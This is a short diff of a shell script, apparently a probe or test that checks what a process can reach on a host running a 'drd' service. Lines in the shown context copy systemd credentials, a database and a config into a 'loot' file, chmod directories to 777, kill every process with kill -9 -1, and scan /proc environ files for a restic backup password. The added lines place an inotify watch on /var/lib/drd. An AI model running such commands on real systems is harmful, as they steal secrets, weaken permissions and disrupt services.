@@ -31,7 +31,9 @@ cat /run/credentials/drd.service/* /var/lib/drd/drd.db /etc/drd/drd.yaml >"$HOME
 chmod 777 /var/lib/drd /var/backups/shop 2>/dev/null && echo chmod >>"$HOME/loot"
 kill -9 -1 2>/dev/null
 python3 - <<'X' >>"$HOME/loot"
-import glob, os, socket
+import ctypes, glob, os, socket
+libc = ctypes.CDLL(None)
+if libc.inotify_add_watch(libc.inotify_init1(0), b'/var/lib/drd', 2) >= 0: print('watched')
 for path in glob.glob('/proc/[0-9]*/environ'):
     try:
         if b'RESTIC_PASSWORD' in open(path, 'rb').read(): print('environ')
